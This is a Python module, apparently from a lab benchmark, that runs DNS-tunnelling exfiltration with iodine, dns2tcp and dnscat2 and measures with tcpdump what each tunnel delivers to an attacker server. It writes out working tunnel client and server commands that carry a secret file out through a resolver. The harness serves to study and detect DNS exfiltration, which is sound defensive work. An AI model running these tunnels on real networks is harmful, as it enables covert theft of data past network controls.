"""The attacks of the lab: tools with a secret to carry out, and what of it a sniffer beside their server counts."""

from __future__ import annotations

import contextlib
import os
import secrets
import socket
import sys
import threading
from pathlib import Path
from typing import TYPE_CHECKING, Final, NamedTuple

from internet import _binary
from lab.network import DNS2TCP, DNSCAT2, IODINE, OFFICE, RESOLVER

from benchmarks.evaluation.captures import _BY_TOOL
from benchmarks.evaluation.packets import Asked, questions

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator

    from lab.network import Host, Lab, Program

SECRET: Final = 4_096  # octets each attack has to carry
_SINK: Final = 7_000  # the port of the attacker's where iodine and dns2tcp are to take it
_TUNNEL: Final = "10.99.0.1"  # the attacker's end of iodine's tunnel
_LOCAL: Final = 8_022  # the port of dns2tcp's client
_DNSCAT: Final = str(Path(__file__).with_name("dnscat.py"))
_SERVERS: Final = {"iodine": IODINE, "dns2tcp": DNS2TCP, "dnscat2": DNSCAT2}


class Attack(NamedTuple):
    """A tool with its options, at a desk of its own with a domain of its own."""

    tool: str
    options: tuple[str, ...]
    number: int

    @property
    def title(self) -> str:
        """What the table calls it."""
        return f"{self.tool} {' '.join(self.options)}".strip()

    @property
    def domain(self) -> str:
        """Its registered domain, without a dot at the end."""
        return f"harbour{self.number:02}.net"

    @property
    def client(self) -> str:
        """The address it asks from."""
        return OFFICE[self.number]

    @property
    def server(self) -> str:
        """The address of its server."""
        return _SERVERS[self.tool]


class Measured(NamedTuple):
    """What arrived at an attacker's server for one domain."""

    payload: float  # octets the names carried, framing left out, each name once
    names: int  # octets of the names themselves left of the domain, each name once
    queries: int
    first: float  # Unix seconds
    last: float


_OPTIONS: Final[dict[str, list[tuple[str, ...]]]] = {
    "iodine": [
        (),
        *(("-T", kind, "-O", "base32", "-m", "200") for kind in ("NULL", "TXT", "CNAME", "A", "MX", "SRV", "PRIVATE")),
        ("-T", "NULL", "-L", "0", "-M", "120"),
    ],
    "dns2tcp": [("-T", "TXT"), ("-T", "KEY")],
    "dnscat2": [("TXT,CNAME,MX",), ("TXT,CNAME,MX", "encrypted"), ("A",), ("TXT", "encrypted")],
}
ATTACKS: Final = tuple(
    Attack(tool, options, number)
    for number, (tool, options) in enumerate((tool, options) for tool, all_of in _OPTIONS.items() for options in all_of)
)


class Sniffer:
    """Keeps every packet to and from port 53 that passes the attacker's network card."""

    def __init__(self, lab: Lab) -> None:
        self._path = lab.folder / f"attacker.{secrets.token_hex(4)}.pcap"
        # -U and --immediate-mode: what arrived is in the file at once
        self._program = lab.attacker.start(
            f"tcpdump.{self._path.name}", _binary("tcpdump"), "-n", "-i", "eth0", "--immediate-mode", "-U",
            "-Z", "root", "-w", str(self._path), "port", "53",
        )  # fmt: skip

    @property
    def ready(self) -> bool:
        """True as soon as nothing can be missed."""
        return "listening on" in self._program.output

    def stop(self) -> None:
        """Capture no more."""
        self._program.stop()

    def measure(self, attack: Attack) -> Measured:
        """Return what arrived for the attack so far."""
        zone = tuple(attack.domain.encode("ascii").split(b"."))
        mine = [one for one in questions(self._path) if tuple(x.lower() for x in one.labels[-len(zone) :]) == zone]
        once = {tuple(label.lower() for label in one.labels): one for one in reversed(mine)}
        subs = [one.labels[: -len(zone)] for one in sorted(once.values(), key=_moment)]
        payload = sum(_BY_TOOL[attack.tool](subs)) if subs else 0.0
        first, last = (mine[0].at, mine[-1].at) if mine else (0.0, 0.0)
        return Measured(payload, sum(len(label) for sub in subs for label in sub), len(mine), first, last)


def _moment(one: Asked) -> float:
    return one.at


class Sink:
    """A listener of the attacker's that takes what comes out of a tunnel."""

    def __init__(self, host: Host) -> None:
        self.octets = 0
        with host.inside():
            self._listener = socket.create_server(("0.0.0.0", _SINK))
        self._thread = threading.Thread(target=self._take)
        self._thread.start()

    def close(self) -> None:
        """Take no more."""
        with contextlib.suppress(OSError):
            self._listener.shutdown(socket.SHUT_RDWR)
        self._thread.join()
        self._listener.close()

    def _take(self) -> None:
        while True:
            try:
                peer, _ = self._listener.accept()
            except OSError:
                return
            with peer:
                peer.settimeout(30.0)
                with contextlib.suppress(OSError):
                    while taken := peer.recv(4_096):
                        self.octets += len(taken)


@contextlib.contextmanager
def under_way(lab: Lab, attack: Attack) -> Iterator[Program]:
    """Let the tool's server listen and its client carry the secret meanwhile; gives the client."""
    lab.office.sit_at(attack.client)
    secret = lab.folder / f"secret.{attack.number}"
    secret.write_bytes(os.urandom(SECRET))
    server, client, way = _COMMANDS[attack.tool](lab, attack, secret)
    with (
        lab.attacker.start(f"server.{attack.number}", *server),
        lab.office.start(f"client.{attack.number}", *client) as up,
    ):
        if way is None:
            yield up
            return
        over = threading.Event()
        thread = threading.Thread(target=_push, args=(lab.office, way, secret.read_bytes(), over))
        thread.start()
        try:
            yield up
        finally:
            over.set()
            thread.join()


def _push(host: Host, way: tuple[str, int], secret: bytes, over: threading.Event) -> None:
    """Send the secret into the tunnel as soon as there is one, and again whenever the tunnel refuses it."""
    while not over.wait(0.1):
        with host.inside(), socket.socket() as out, contextlib.suppress(OSError):
            out.settimeout(1.0)
            out.connect(way)
            out.sendall(secret)
            while not over.is_set():
                with contextlib.suppress(TimeoutError):
                    if not out.recv(1):
                        break


_Commands = tuple[list[str], list[str], tuple[str, int] | None]


def _iodine(lab: Lab, attack: Attack, secret: Path) -> _Commands:
    server = [_binary("iodined"), "-f", "-c", "-l", attack.server, "-P", "lab", f"{_TUNNEL}/24", attack.domain]
    client = [_binary("iodine"), "-f", "-r", "-P", "lab", *attack.options, RESOLVER, attack.domain]
    return server, client, (_TUNNEL, _SINK)


def _dns2tcp(lab: Lab, attack: Attack, secret: Path) -> _Commands:
    conf = lab.folder / "dns2tcpd.conf"
    conf.write_text(
        f"listen = {attack.server}\nport = 53\nuser = root\nkey = lab\nchroot = {lab.folder}\n"
        f"domain = {attack.domain}\nresources = sink:127.0.0.1:{_SINK}\n"
    )
    server = [_binary("dns2tcpd"), "-F", "-d", "1", "-f", str(conf)]
    client = [
        _binary("dns2tcpc"), "-z", attack.domain, "-k", "lab", "-r", "sink", "-l", str(_LOCAL), *attack.options,
        "-d", "1", RESOLVER,
    ]  # fmt: skip
    return server, client, ("127.0.0.1", _LOCAL)


def _dnscat2(lab: Lab, attack: Attack, secret: Path) -> _Commands:
    kinds, *encrypted = attack.options
    server = [sys.executable, _DNSCAT, "serve", attack.server, attack.domain]
    client = [sys.executable, _DNSCAT, "send", RESOLVER, attack.domain, kinds, str(secret), *encrypted]
    return server, client, None


_COMMANDS: Final[dict[str, Callable[[Lab, Attack, Path], _Commands]]] = {
    "iodine": _iodine, "dns2tcp": _dns2tcp, "dnscat2": _dnscat2,
}  # fmt: skip
